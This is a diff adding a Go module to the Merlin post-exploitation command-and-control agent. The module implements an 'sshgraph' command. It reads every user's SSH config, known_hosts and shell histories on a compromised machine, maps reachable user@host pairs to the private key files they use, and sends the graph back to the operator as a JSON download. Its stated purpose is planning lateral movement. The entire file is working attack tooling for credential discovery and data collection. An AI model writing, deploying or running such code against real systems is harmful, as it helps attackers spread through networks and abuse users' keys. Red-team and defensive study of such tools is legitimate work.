@@ -0,0 +1,487 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bufio"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/url"
+	"os"
+	"path/filepath"
+	"sort"
+	"strconv"
+	"strings"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+)
+
+// maxHistoryLine is the longest shell history line that is read, longer lines are usually pasted data
+const maxHistoryLine = 64 * 1024
+
+// sshValueFlags are the options of each SSH client that take a value, used to find the destination in a command line
+var sshValueFlags = map[string]string{
+	"ssh":         "BbcDEeFIiJLlmOopQRSWw",
+	"autossh":     "BbcDEeFIiJLlMmOopQRSWw",
+	"scp":         "cDFiJloPS",
+	"sftp":        "BbcDFiJloPRSs",
+	"ssh-copy-id": "Fiop",
+	"rsync":       "eBfT",
+}
+
+// sshTarget is a destination found in an SSH client command line
+type sshTarget struct {
+	user string
+	host string
+	port int
+	key  string
+	jump bool
+}
+
+// sshGraph is the reachable host graph returned as a JSON artifact
+type sshGraph struct {
+	Hostname string          `json:"hostname"`
+	Nodes    []string        `json:"nodes"`
+	Edges    []SSHEdgeRecord `json:"edges"`
+}
+
+// SSHGraph correlates SSH client configuration files, known_hosts, and shell history in user home directories into
+// a graph of the user@host edges each local user can likely reach and the private key used, returned as structured
+// records and a JSON artifact for planning lateral movement
+// sshgraph [home directory...]
+func SSHGraph(cmd jobs.Command) (results jobs.Results, structured Structured, transfer *jobs.FileTransfer) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering SSHGraph() with %+v", cmd))
+	}
+	hostname, _ := os.Hostname()
+	homes := cmd.Args
+	if len(homes) == 0 {
+		homes = homeDirectories()
+	}
+
+	var edges []*SSHEdgeRecord
+	index := make(map[string]*SSHEdgeRecord)
+	evidenced := make(map[string]bool)
+	var hashed int
+	for _, home := range homes {
+		owner := filepath.Base(home)
+		source := fmt.Sprintf("%s@%s", owner, hostname)
+		dir := filepath.Join(home, ".ssh")
+
+		// The keys the client tries when a host does not specify an IdentityFile
+		var defaults []string
+		for _, name := range defaultIdentities {
+			if _, err := os.Stat(filepath.Join(dir, name)); err == nil {
+				defaults = append(defaults, filepath.Join(dir, name))
+			}
+		}
+		hosts := sshConfig(filepath.Join(dir, "config"), home)
+
+		add := func(target sshTarget, evidence string) {
+			if target.host == "" || strings.ContainsAny(target.host, "*?!$`/ ") {
+				return
+			}
+			keys := []string{target.key}
+			// Configured hosts are matched by their alias so history like "ssh web" resolves to the real host
+			if host, ok := configuredHost(hosts, target.host); ok {
+				if host.hostname != "" {
+					target.host = host.hostname
+				}
+				if target.user == "" {
+					target.user = host.user
+				}
+				if target.port == 0 {
+					target.port, _ = strconv.Atoi(host.port)
+				}
+				if target.key == "" && len(host.identities) > 0 {
+					keys = host.identities
+				}
+			}
+			if keys[0] == "" && len(defaults) > 0 {
+				keys = defaults
+			}
+			if target.user == "" {
+				target.user = owner
+			}
+			if target.port == 0 {
+				target.port = 22
+			}
+			if target.jump {
+				evidence += " (jump host)"
+			}
+			for _, key := range keys {
+				if strings.HasPrefix(key, "~") {
+					key = filepath.Join(home, key[1:])
+				}
+				id := strings.Join([]string{source, target.user, target.host, strconv.Itoa(target.port), key}, "|")
+				edge, ok := index[id]
+				if !ok {
+					edge = &SSHEdgeRecord{Source: source, User: target.user, Host: target.host, Port: target.port, Key: key}
+					index[id] = edge
+					edges = append(edges, edge)
+				}
+				if !evidenced[id+"|"+evidence] {
+					evidenced[id+"|"+evidence] = true
+					edge.Evidence = append(edge.Evidence, evidence)
+				}
+			}
+		}
+
+		for _, host := range hosts {
+			for _, pattern := range host.patterns {
+				port, _ := strconv.Atoi(host.port)
+				add(sshTarget{user: host.user, host: pattern, port: port}, "config")
+			}
+		}
+		known, _ := filepath.Glob(filepath.Join(dir, "known_hosts*"))
+		for _, path := range known {
+			plain, count := knownHosts(path)
+			hashed += count
+			for _, entry := range plain {
+				add(knownHostTarget(entry), "known_hosts")
+			}
+		}
+		for _, path := range shellHistories(home) {
+			for _, line := range historyCommands(path) {
+				for _, target := range historySSHTargets(line) {
+					add(target, "history "+filepath.Base(path))
+				}
+			}
+		}
+	}
+
+	graph := sshGraph{Hostname: hostname}
+	nodes := make(map[string]bool)
+	for _, edge := range edges {
+		for _, node := range []string{edge.Source, fmt.Sprintf("%s@%s", edge.User, edge.Host)} {
+			if !nodes[node] {
+				nodes[node] = true
+				graph.Nodes = append(graph.Nodes, node)
+			}
+		}
+		graph.Edges = append(graph.Edges, *edge)
+	}
+	sort.Strings(graph.Nodes)
+	sort.SliceStable(graph.Edges, func(i, j int) bool {
+		if graph.Edges[i].Source != graph.Edges[j].Source {
+			return graph.Edges[i].Source < graph.Edges[j].Source
+		}
+		return graph.Edges[i].Host < graph.Edges[j].Host
+	})
+
+	if len(graph.Edges) == 0 {
+		results.Stdout = "no SSH destinations were found in client configuration files, known_hosts, or shell history"
+	} else {
+		var out strings.Builder
+		for _, edge := range graph.Edges {
+			key := edge.Key
+			if key == "" {
+				key = "no key file (password or agent)"
+			}
+			fmt.Fprintf(&out, "%s -> %s@%s:%d key %s [%s]\n", edge.Source, edge.User, edge.Host, edge.Port, key, strings.Join(edge.Evidence, ", "))
+		}
+		fmt.Fprintf(&out, "%d edges between %d nodes", len(graph.Edges), len(graph.Nodes))
+		results.Stdout = out.String()
+	}
+	if hashed > 0 {
+		results.Stdout += fmt.Sprintf("\n%d hashed known_hosts entries could not be added to the graph", hashed)
+	}
+
+	data, err := json.MarshalIndent(graph, "", "  ")
+	if err != nil {
+		results.Stderr = fmt.Sprintf("there was an error encoding the SSH graph: %s", err)
+	} else if len(graph.Edges) > 0 {
+		transfer = &jobs.FileTransfer{
+			FileLocation: fmt.Sprintf("sshgraph.%s.json", hostname),
+			FileBlob:     base64.StdEncoding.EncodeToString(data),
+			IsDownload:   true,
+		}
+	}
+	structured = newStructured("sshgraph", graph.Edges)
+	return
+}
+
+// configuredHost returns the SSH client configuration Host entry that names the alias without a wildcard
+func configuredHost(hosts []sshHost, alias string) (sshHost, bool) {
+	for _, host := range hosts {
+		for _, pattern := range host.patterns {
+			if pattern == alias {
+				return host, true
+			}
+		}
+	}
+	return sshHost{}, false
+}
+
+// knownHostTarget returns the host and port of a known_hosts entry, which is a host name or [host]:port
+func knownHostTarget(entry string) (target sshTarget) {
+	target.host = entry
+	if strings.HasPrefix(entry, "[") {
+		if host, port, err := net.SplitHostPort(entry); err == nil {
+			target.host = host
+			target.port, _ = strconv.Atoi(port)
+		}
+	}
+	return
+}
+
+// historySSHTargets returns the destinations of the ssh, scp, sftp, rsync, and ssh-copy-id commands in a shell
+// history line, with the user, port, key, and jump hosts from their options
+func historySSHTargets(line string) (targets []sshTarget) {
+	for _, segment := range strings.FieldsFunc(line, func(r rune) bool { return r == ';' || r == '|' || r == '&' }) {
+		args := shellFields(segment)
+		// Skip the commands and environment variables that wrap the client
+		for len(args) > 0 && (args[0] == "sudo" || args[0] == "env" || args[0] == "nohup" || args[0] == "exec" || args[0] == "time" || strings.Contains(args[0], "=")) {
+			args = args[1:]
+		}
+		if len(args) == 0 {
+			continue
+		}
+		name := strings.TrimSuffix(filepath.Base(args[0]), ".exe")
+		flags, ok := sshValueFlags[name]
+		if !ok {
+			continue
+		}
+
+		var options sshTarget
+		var destinations []string
+		for i := 1; i < len(args); i++ {
+			arg := args[i]
+			if arg == "--" {
+				destinations = append(destinations, args[i+1:]...)
+				break
+			}
+			if len(arg) > 1 && arg[0] == '-' && arg[1] != '-' {
+				// Options can be combined, such as -vi key or -p2222
+				for j := 1; j < len(arg); j++ {
+					if !strings.ContainsRune(flags, rune(arg[j])) {
+						continue
+					}
+					value := arg[j+1:]
+					if value == "" && i+1 < len(args) {
+						i++
+						value = args[i]
+					}
+					targets = append(targets, sshOption(name, arg[j], value, &options)...)
+					break
+				}
+				continue
+			}
+			if strings.HasPrefix(arg, "-") {
+				continue
+			}
+			destinations = append(destinations, arg)
+			// The rest of an ssh command line is the remote command
+			if name == "ssh" || name == "autossh" || name == "ssh-copy-id" {
+				break
+			}
+		}
+
+		for _, destination := range destinations {
+			// scp and rsync destinations are only remote when they are host:path
+			if name == "scp" || name == "rsync" {
+				host, _, found := strings.Cut(destination, ":")
+				if !strings.HasPrefix(destination, "scp://") && !strings.HasPrefix(destination, "rsync://") && (!found || host == "" || strings.Contains(host, "/")) {
+					continue
+				}
+			}
+			if target, ok := sshDestination(destination); ok {
+				if target.user == "" {
+					target.user = options.user
+				}
+				if target.port == 0 {
+					target.port = options.port
+				}
+				target.key = options.key
+				targets = append(targets, target)
+			}
+		}
+	}
+	return
+}
+
+// sshOption applies an SSH client option that sets the user, port, or key to the target and returns the jump hosts
+func sshOption(name string, flag byte, value string, target *sshTarget) (jumps []sshTarget) {
+	switch {
+	case flag == 'i':
+		target.key = value
+	case flag == 'l' && (name == "ssh" || name == "autossh"):
+		target.user = value
+	case flag == 'p' && name != "scp" && name != "sftp", flag == 'P' && (name == "scp" || name == "sftp"):
+		target.port, _ = strconv.Atoi(value)
+	case flag == 'J':
+		for _, jump := range strings.Split(value, ",") {
+			if host, ok := sshDestination(jump); ok {
+				host.jump = true
+				jumps = append(jumps, host)
+			}
+		}
+	case flag == 'e' && name == "rsync":
+		// rsync -e "ssh -i key -p 2222" sets the remote shell's options
+		args := shellFields(value)
+		for i := 1; i < len(args); i++ {
+			if len(args[i]) == 2 && args[i][0] == '-' && i+1 < len(args) {
+				jumps = append(jumps, sshOption("ssh", args[i][1], args[i+1], target)...)
+				i++
+			}
+		}
+	case flag == 'o':
+		option, setting, found := strings.Cut(strings.Replace(value, " ", "=", 1), "=")
+		if !found {
+			return
+		}
+		switch strings.ToLower(option) {
+		case "user":
+			target.user = setting
+		case "port":
+			target.port, _ = strconv.Atoi(setting)
+		case "identityfile":
+			target.key = setting
+		case "proxyjump":
+			jumps = sshOption(name, 'J', setting, target)
+		}
+	}
+	return
+}
+
+// sshDestination parses an SSH destination, which is [user@]host[:port|:path] or ssh://[user@]host[:port]
+func sshDestination(destination string) (target sshTarget, ok bool) {
+	if strings.Contains(destination, "://") {
+		u, err := url.Parse(destination)
+		if err != nil || u.Hostname() == "" {
+			return target, false
+		}
+		target.host = u.Hostname()
+		target.port, _ = strconv.Atoi(u.Port())
+		if u.User != nil {
+			target.user = u.User.Username()
+		}
+		return target, true
+	}
+	if at := strings.LastIndex(destination, "@"); at >= 0 {
+		target.user = destination[:at]
+		destination = destination[at+1:]
+	}
+	if strings.HasPrefix(destination, "[") {
+		// [host]:port or [IPv6]:path
+		if end := strings.Index(destination, "]"); end > 0 {
+			target.host = destination[1:end]
+			if rest := destination[end+1:]; strings.HasPrefix(rest, ":") {
+				target.port, _ = strconv.Atoi(rest[1:])
+			}
+		}
+	} else {
+		target.host, _, _ = strings.Cut(destination, ":")
+	}
+	return target, target.host != "" && !strings.HasPrefix(target.host, "-")
+}
+
+// shellFields splits a command line into its arguments, keeping quoted arguments together
+func shellFields(line string) (fields []string) {
+	var field strings.Builder
+	var quote rune
+	inField := false
+	for _, r := range line {
+		switch {
+		case quote != 0:
+			if r == quote {
+				quote = 0
+			} else {
+				field.WriteRune(r)
+			}
+		case r == '"' || r == '\'':
+			quote = r
+			inField = true
+		case r == ' ' || r == '\t':
+			if inField {
+				fields = append(fields, field.String())
+				field.Reset()
+				inField = false
+			}
+		default:
+			field.WriteRune(r)
+			inField = true
+		}
+	}
+	if inField {
+		fields = append(fields, field.String())
+	}
+	return
+}
+
+// historyFiles are the shell history files, relative to a home directory, that are read
+var historyFiles = []string{
+	".bash_history", ".zsh_history", ".zhistory", ".sh_history", ".history", ".ash_history", ".mysql_history",
+	".psql_history", ".python_history", filepath.Join(".local", "share", "fish", "fish_history"),
+	filepath.Join("AppData", "Roaming", "Microsoft", "Windows", "PowerShell", "PSReadLine", "ConsoleHost_history.txt"),
+	filepath.Join(".local", "share", "powershell", "PSReadLine", "ConsoleHost_history.txt"),
+}
+
+// shellHistories returns the shell history files that exist in the home directory
+func shellHistories(home string) (paths []string) {
+	for _, name := range historyFiles {
+		path := filepath.Join(home, name)
+		if info, err := os.Stat(path); err == nil && info.Mode().IsRegular() {
+			paths = append(paths, path)
+		}
+	}
+	return
+}
+
+// historyCommands returns the commands in a shell history file without the timestamps zsh and fish add to them
+func historyCommands(path string) (commands []string) {
+	f, err := os.Open(path) // #nosec G304
+	if err != nil {
+		return
+	}
+	defer f.Close()
+
+	fish := filepath.Base(path) == "fish_history"
+	scanner := bufio.NewScanner(f)
+	scanner.Buffer(make([]byte, 4096), maxHistoryLine)
+	for scanner.Scan() {
+		line := scanner.Text()
+		switch {
+		case fish:
+			// fish writes YAML-like entries of "- cmd: <command>" followed by "  when: <timestamp>"
+			if !strings.HasPrefix(line, "- cmd: ") {
+				continue
+			}
+			line = strings.TrimPrefix(line, "- cmd: ")
+		case strings.HasPrefix(line, ": "):
+			// zsh extended history is ": <timestamp>:<duration>;<command>"
+			if _, command, found := strings.Cut(line, ";"); found {
+				line = command
+			}
+		case strings.HasPrefix(line, "#") && len(line) > 1 && strings.Trim(line[1:], "0123456789") == "":
+			// bash writes "#<timestamp>" before each command when HISTTIMEFORMAT is set
+			continue
+		}
+		if line = strings.TrimSpace(line); line != "" {
+			commands = append(commands, line)
+		}
+	}
+	return
+}